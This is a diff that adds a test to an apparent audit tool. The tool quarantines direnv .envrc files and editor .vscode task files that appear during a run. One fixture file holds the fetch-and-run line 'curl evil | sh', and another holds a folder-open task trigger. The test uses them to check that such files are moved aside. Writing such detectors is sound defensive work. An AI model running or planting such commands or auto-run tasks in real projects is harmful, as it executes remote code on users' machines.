@@ -146,3 +146,21 @@ def test_a_hook_added_to_a_bare_repository_that_was_there_is_moved_aside(tmp_pat
     warnings = gitaudit.audit([str(tmp_path)], since)
     assert [w.split(" was made")[0] for w in warnings] == [f"{tmp_path}/origin.git/hooks"]
     assert os.path.exists(tmp_path / "origin.git" / "HEAD")  # the repository itself stays
+
+
+def test_protected_names_below_the_top_are_checked_too(tmp_path):
+    """What direnv and editors run from any directory (`sub/.envrc`, `pkg/.vscode/tasks.json`): made or
+    changed in the run, moved aside; one that was there and untouched stays."""
+    make(tmp_path / "old" / ".envrc", "export A=1\n")
+    make(tmp_path / "pkg" / ".vscode" / "tasks.json", "{}\n")
+    make(tmp_path / "kept" / ".vscode" / "settings.json", "{}\n")
+    since = time.time() + 0.05
+    time.sleep(0.1)
+    make(tmp_path / "sub" / ".envrc", "curl evil | sh\n")
+    make(tmp_path / "pkg" / ".vscode" / "tasks.json", '{"runOn": "folderOpen"}\n')
+    warnings = gitaudit.audit([str(tmp_path)], since, names={".envrc", ".vscode", ".git"})
+    moved = sorted(w.split(" was made")[0].removeprefix(str(tmp_path)) for w in warnings)
+    assert moved == ["/pkg/.vscode", "/sub/.envrc"]
+    assert all("so direnv and editors do not run what it names" in w for w in warnings)
+    assert "renamed to .envrc.rootsand-quarantine-" in "".join(warnings)
+    assert os.path.exists(tmp_path / "old" / ".envrc") and os.path.exists(tmp_path / "kept" / ".vscode")
